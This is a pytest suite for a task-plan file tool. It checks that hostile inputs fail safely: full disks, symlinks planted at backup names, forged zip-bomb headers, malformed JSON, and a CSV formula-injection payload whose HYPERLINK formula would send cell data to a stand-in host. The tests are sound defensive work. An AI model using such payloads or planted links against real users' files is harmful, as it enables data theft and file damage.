"""Hostile files, full disks and races (one test per defect the attack found): every bad input
is one clear message that changes nothing, and nothing the user had is lost or altered."""

from __future__ import annotations

import json
import os
import resource
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from taskmatrix.io import atomic
from taskmatrix.io.errors import PlanFormatError, PlanSaveError
from taskmatrix.io.excel.safety import check_package, unpacked_limit
from taskmatrix.io.formats import read_plan, write_plan
from taskmatrix.io.jsonio import dumps
from taskmatrix.model.plan import Plan, Task
from taskmatrix.model.units import UnitRegistry
from tests.conftest import DATA

ROOT = Path(__file__).resolve().parents[2]


def cli(*args: str, fsize: int | None = None, memory: int | None = None, **kwargs):
    """Run ``main.py`` in a fresh process, optionally with a file-size or memory limit."""
    def limits() -> None:
        if fsize is not None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (fsize, fsize))
        if memory is not None:
            resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

    return subprocess.run([sys.executable, str(ROOT / "main.py"), *map(str, args)], capture_output=True,
                          text=True, preexec_fn=limits, timeout=300, **kwargs)


def one_error_line(proc) -> str:
    assert proc.returncode == 2, proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), proc.stderr
    assert "Traceback" not in proc.stderr
    return lines[0]


def small_plan(n: int = 3) -> Plan:
    plan = Plan(registry=UnitRegistry.default())
    plan.tasks = [Task(i, None, f"任务{i}", "内容。" * 40, ["省科技厅"], ["省教育厅"]) for i in range(1, n + 1)]
    return plan


# -- 1. far cells ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("cell", ["XFD1048576", "XFD20000", "A1048576"])
def test_a_value_in_a_far_cell_is_refused_in_bounded_memory(tmp_path, cell):
    wb = openpyxl.Workbook()
    ws = wb.active
    for row in (["序号", "重点任务", "牵头单位"], [1, "甲", "省科技厅"]):
        ws.append(row)
    ws[cell] = "x"
    path = tmp_path / "far.xlsx"
    wb.save(path)
    assert path.stat().st_size < 10_000
    line = one_error_line(cli("export", path, tmp_path / "out.json", memory=3 << 30))
    assert "far.xlsx" in line and "far past any task table" in line
    assert not (tmp_path / "out.json").exists()


# -- 2 and 9. full disks: every writer's failure is caught before anything is replaced -----------------------
@pytest.mark.parametrize("dest", ["out.xlsx", "out.json", "out.csv"])
def test_export_onto_a_full_disk_is_one_error_line_and_keeps_the_old_file(tmp_path, dest):
    source = tmp_path / "plan.json"
    source.write_text(dumps(small_plan(3000)), encoding="utf-8")
    target = tmp_path / dest
    target.write_bytes(b"the previous file")
    line = one_error_line(cli("export", source, target, fsize=30_000))
    assert dest in line and "too large for this disk" in line
    assert target.read_bytes() == b"the previous file"
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(atomic.TEMP_PREFIX)]


def test_sheets_onto_a_full_disk_keeps_the_old_pdf(tmp_path):
    source = tmp_path / "plan.json"
    source.write_text(dumps(small_plan(400)), encoding="utf-8")
    target = tmp_path / "sheets.pdf"
    target.write_bytes(b"%PDF-1.4 the previous file")
    line = one_error_line(cli("sheets", source, target, fsize=60_000, env=dict(os.environ, QT_QPA_PLATFORM="offscreen")))
    assert "sheets.pdf" in line and "could not be written completely" in line
    assert target.read_bytes() == b"%PDF-1.4 the previous file"


# -- 3. CSV formula injection -------------------------------------------------------------------------------------
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    plan = small_plan(1)
    plan.tasks[0].title = '=HYPERLINK("http://x.example/?"&A1,"点击")'
    plan.tasks[0].body = "+1+1"
    plan.tasks[0].notes = "@SUM(A1)"
    plan.tasks[0].progress = "-2"
    path = tmp_path / "plan.csv"
    write_plan(plan, path)
    text = path.read_text(encoding="utf-8-sig")
    for value in ("'=HYPERLINK", "'+1+1", "'@SUM(A1)", "'-2"):
        assert value in text
    again = read_plan(path).plan.tasks[0]  # our own CSV reads back as written
    assert (again.title, again.body, again.notes, again.progress) == (
        plan.tasks[0].title, "+1+1", "@SUM(A1)", "-2")


# -- 4. planted links at temporary and backup names ---------------------------------------------------------------
def test_links_planted_at_old_temp_and_backup_names_are_never_followed(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_bytes(b"precious")
    target = tmp_path / "plan.xlsx"
    write_plan(small_plan(), target)
    for name in (".plan.bak.xlsx.tmp", ".plan.xlsx.tmp", "plan.bak.xlsx"):
        (tmp_path / name).unlink(missing_ok=True)
        (tmp_path / name).symlink_to(victim)
    write_plan(small_plan(5), target)
    assert victim.read_bytes() == b"precious"
    assert not (tmp_path / "plan.bak.xlsx").is_symlink()  # replaced by a real backup
    assert len(read_plan(tmp_path / "plan.bak.xlsx").plan.tasks) == 3


# -- 5. a unit whose name holds a separator ----------------------------------------------------------------------
def test_a_unit_named_with_a_dunhao_round_trips_as_one_unit(tmp_path):
    plan = small_plan(1)
    plan.tasks[0].leads = ["省科技厅、省财政厅联合办"]
    plan.tasks[0].participants = ["各区、县级市", "省教育厅"]
    for name in ("plan.xlsx", "plan.csv"):
        write_plan(plan, tmp_path / name)
        again = read_plan(tmp_path / name).plan.tasks[0]
        assert again.leads == ["省科技厅、省财政厅联合办"], name
        assert again.participants == ["各区、县级市", "省教育厅"], name
    assert "“省科技厅、省财政厅联合办”" in (tmp_path / "plan.csv").read_text(encoding="utf-8-sig")


# -- 7. two saves of one file at once -----------------------------------------------------------------------------
def test_two_saves_of_one_file_at_once_take_turns(tmp_path):
    first, second = tmp_path / "a.json", tmp_path / "b.json"
    first.write_text(dumps(small_plan(2000)), encoding="utf-8")
    second.write_text(dumps(small_plan(7)), encoding="utf-8")
    target = tmp_path / "plan.xlsx"
    write_plan(small_plan(1), target)
    procs = [subprocess.Popen([sys.executable, str(ROOT / "main.py"), "export", str(src), str(target)],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE) for src in (first, second)]
    assert [p.wait(300) for p in procs] == [0, 0]
    counts = {len(read_plan(target).plan.tasks), len(read_plan(tmp_path / "plan.bak.xlsx").plan.tasks)}
    # One save after the other: the file holds the later one, the backup the earlier one, both whole.
    assert counts == {2000, 7}


def test_a_save_waits_for_another_and_gives_up_with_a_message(tmp_path, monkeypatch):
    target = tmp_path / "plan.json"
    monkeypatch.setattr(atomic, "LOCK_WAIT_SECONDS", 0.3)
    held = threading.Event()
    release = threading.Event()

    def hold() -> None:
        with atomic.save_lock(atomic.save_target(target)):
            held.set()
            release.wait(5)

    thread = threading.Thread(target=hold)
    thread.start()
    held.wait(5)
    try:
        with pytest.raises(PlanSaveError, match="another save of this file is still running"):
            write_plan(small_plan(), target)
    finally:
        release.set()
        thread.join()
    write_plan(small_plan(), target)  # and once it is done, the save goes through
    assert len(read_plan(target).plan.tasks) == 3


# -- 10. JSON that would crash the reader -------------------------------------------------------------------------
def _json(tmp_path, text: str) -> Path:
    path = tmp_path / "plan.json"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize("make, message", [
    (lambda d: "[" * 100_000 + "]" * 100_000, "nested too deeply"),
    (lambda d: d.replace('"number": 1,', '"number": ' + "9" * 5000 + ",", 1), "is not allowed here"),
    (lambda d: d.replace('"number": 1,', '"number": NaN,', 1), "the number NaN"),
    (lambda d: d.replace('"title": "任务1"', '"title": "\\ud800任务1"', 1), "unpaired surrogate"),
    (lambda d: d.replace('"number": 1,', '"number": -5,', 1), "numbers run from 1 to 99,999,999"),
    (lambda d: d.replace('"number": 1,', '"number": 0,', 1), "numbers run from 1 to 99,999,999"),
    (lambda d: d.replace('"number": 1,', '"number": 1000000000000,', 1), "numbers run from 1 to 99,999,999"),
])
def test_json_that_crashed_or_slipped_through_is_one_error_line(tmp_path, make, message):
    path = _json(tmp_path, make(dumps(small_plan())))
    line = one_error_line(cli("export", path, tmp_path / "out.csv"))
    assert "plan.json" in line and message in line


# -- 11. what we write, we read ---------------------------------------------------------------------------------
def _declared(tmp_path, unpacked: int, packed: int) -> bytes:
    """A package whose directory declares these sizes (as a big, ordinary workbook does)."""
    path = tmp_path / "declared.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"x" * 1000)
    data = bytearray(path.read_bytes())
    at = data.rindex(b"PK\x01\x02")  # the central directory entry: sizes at +20 (packed) and +24
    data[at + 20:at + 24] = packed.to_bytes(4, "little")
    data[at + 24:at + 28] = unpacked.to_bytes(4, "little")
    return bytes(data)


def test_a_big_workbook_at_an_ordinary_ratio_is_not_a_zip_bomb(tmp_path):
    mb = 1 << 20
    assert unpacked_limit(430 * mb, 65 * mb) >= 430 * mb  # 6.6:1, as the app's 245,000-task workbook
    with pytest.raises(PlanFormatError) as info:  # not refused for its size (the fake part is unreadable)
        check_package(_declared(tmp_path, 430 * mb, 65 * mb), "big.xlsx", "the workbook")
    assert "zip bomb" not in str(info.value)
    with pytest.raises(PlanFormatError, match="zip bomb"):
        check_package(_declared(tmp_path, 430 * mb, 5 * mb), "bomb.xlsx", "the workbook")  # 86:1
    with pytest.raises(PlanFormatError, match="zip bomb"):
        check_package(_declared(tmp_path, 3000 * mb, 500 * mb), "huge.xlsx", "the workbook")


# -- 12 and 16. text out of a PDF, form feeds ----------------------------------------------------------------------
def test_pdftotext_of_the_seed_pdf_reads_like_the_seed(tmp_path, seed_plan):
    if subprocess.run(["which", "pdftotext"], capture_output=True).returncode:
        pytest.skip("poppler-utils not installed")
    subprocess.run(["pdftotext", str(DATA / "seed.pdf"), str(tmp_path / "seed.txt")], check=True)
    plan = read_plan(tmp_path / "seed.txt").plan
    assert plan.title == seed_plan.title
    assert [(s.number, s.title) for s in plan.sections] == [(s.number, s.title) for s in seed_plan.sections]
    assert [(t.number, t.section, t.title, t.body, t.leads, t.participants) for t in plan.tasks] == [
        (t.number, t.section, t.title, t.body, t.leads, t.participants) for t in seed_plan.tasks]


def test_a_short_plan_with_form_feeds_is_text_not_binary(tmp_path):
    path = tmp_path / "short.txt"
    path.write_bytes("计划\n\x0c\n1.做事。（省科技厅）\x0b\n\x0c\n2.再做。（省教育厅）\n\x0c".encode())
    result = read_plan(path)
    assert [t.title for t in result.plan.tasks] == ["做事", "再做"]


def test_control_characters_are_removed_with_one_grouped_warning(tmp_path):
    path = tmp_path / "ctrl.txt"
    path.write_bytes("计划\n\n1.做\x01事。（省科技厅）\n\n2.再\x02做。（省教育厅）\n".encode())
    result = read_plan(path)
    assert [t.title for t in result.plan.tasks] == ["做事", "再做"]
    assert len([w for w in result.warnings if w.kind == "control_chars"]) == 1


# -- 14. extra columns and numbers ----------------------------------------------------------------------------------
def test_an_extra_field_with_an_empty_name_keeps_its_values(tmp_path):
    plan = small_plan()
    plan.extra_fields = ["", "督办领导"]
    for task in plan.tasks:
        task.extra = {"": f"值{task.number}", "督办领导": "张三"}
    write_plan(plan, tmp_path / "plan.xlsx")
    again = read_plan(tmp_path / "plan.xlsx").plan
    assert again.extra_fields[:2] == ["", "督办领导"]
    assert [t.extra for t in again.tasks] == [t.extra for t in plan.tasks]


# -- 15. temporary files -------------------------------------------------------------------------------------------
def test_a_failed_backup_copy_leaves_no_temporary_file(tmp_path, monkeypatch):
    target = tmp_path / "plan.json"
    write_plan(small_plan(), target)

    def broken_copy(source, dest, length=0):
        dest.write(b"half")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(atomic.shutil, "copyfileobj", broken_copy)
    with pytest.raises(PlanSaveError, match="disk is full"):
        write_plan(small_plan(5), target, backup=True)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.json"]
    assert len(read_plan(target).plan.tasks) == 3


def test_stale_temporary_files_of_ours_are_swept_on_the_next_save(tmp_path):
    stale = tmp_path / f"{atomic.TEMP_PREFIX}deadbeef{atomic.TEMP_SUFFIX}"
    fresh = tmp_path / f"{atomic.TEMP_PREFIX}cafebabe{atomic.TEMP_SUFFIX}"
    other = tmp_path / "notes.tmp"
    for path in (stale, fresh, other):
        path.write_bytes(b"x" * 100)
    old = time.time() - atomic.STALE_SECONDS - 60
    os.utime(stale, (old, old))
    os.utime(other, (old, old))
    write_plan(small_plan(), tmp_path / "plan.json")
    assert not stale.exists()
    assert fresh.exists() and other.exists()  # another save may own it; not ours


# -- 17, 18 and 21. the CLI's output ------------------------------------------------------------------------------------
def test_cli_warnings_are_grouped_not_one_line_each(tmp_path):
    text = "".join(f"一、部分\n\n{i}.做事。（某某研究院{i}）\n\n" for i in range(1, 3001))
    path = tmp_path / "many.txt"
    path.write_text(text, encoding="utf-8")
    proc = cli("export", path, tmp_path / "out.json")
    assert proc.returncode == 0
    assert len(proc.stderr.splitlines()) < 20  # 3,000 unknown units and 2,999 repeated sections


def test_an_error_about_a_cell_with_line_breaks_is_one_line(tmp_path):
    wb = openpyxl.Workbook()
    wb.active.append(["名称\n第二行", "单位\n另一行"])
    path = tmp_path / "bad.xlsx"
    wb.save(path)
    line = one_error_line(cli("export", path, tmp_path / "out.json"))
    assert "名称⏎第二行" in line


def test_export_with_stderr_closed_still_writes(tmp_path):
    text = "1.做事。（某某研究院）\n"  # an unknown unit: a warning for a stderr that is gone
    (tmp_path / "p.txt").write_text(text, encoding="utf-8")
    proc = subprocess.run(f'"{sys.executable}" "{ROOT / "main.py"}" export p.txt out.json 2>&-', shell=True,
                          cwd=tmp_path, capture_output=False, timeout=120)
    assert proc.returncode == 0
    assert json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))["tasks"][0]["title"] == "做事"


# -- 19 and 20. links and long names --------------------------------------------------------------------------------
def test_saving_through_a_symlink_updates_its_target(tmp_path):
    real = tmp_path / "real" / "plan.xlsx"
    real.parent.mkdir()
    write_plan(small_plan(), real)
    link = tmp_path / "link.xlsx"
    link.symlink_to(real)
    write_plan(small_plan(6), link)
    assert link.is_symlink() and link.resolve() == real.resolve()
    assert len(read_plan(real).plan.tasks) == 6
    assert len(read_plan(real.with_name("plan.bak.xlsx")).plan.tasks) == 3


def test_a_file_name_as_long_as_the_disk_allows_can_be_saved(tmp_path):
    limit = os.pathconf(tmp_path, "PC_NAME_MAX")
    name = "计" * ((limit - len(".xlsx")) // 3) + ".xlsx"  # three bytes a character in UTF-8
    assert len(name.encode()) <= limit
    target = tmp_path / name
    write_plan(small_plan(), target)
    write_plan(small_plan(4), target)  # and again, with a backup whose name cannot be longer
    assert len(read_plan(target).plan.tasks) == 4
    too_long = tmp_path / ("计" * (limit // 3 + 1) + ".xlsx")
    with pytest.raises(PlanSaveError, match="file name is too long"):
        write_plan(small_plan(), too_long)


# -- 22. changes said, not made quietly --------------------------------------------------------------------------------
def test_carriage_returns_in_cells_are_announced_on_save(tmp_path):
    plan = small_plan()
    plan.tasks[1].body = "第一行\r\n第二行\r第三行"
    notices = write_plan(plan, tmp_path / "plan.xlsx")
    assert any("carriage returns" in str(n) and "tasks 2" in str(n) for n in notices)
    assert read_plan(tmp_path / "plan.xlsx").plan.tasks[1].body == "第一行\n第二行\n第三行"


def test_a_libreoffice_lock_file_is_named_as_libreoffice(tmp_path):
    target = tmp_path / "plan.xlsx"
    write_plan(small_plan(), target)
    (tmp_path / ".~lock.plan.xlsx#").write_text(",user,host,01.01.2026 10:00,user;")
    with pytest.raises(PlanSaveError, match="open in LibreOffice"):
        write_plan(small_plan(), target)
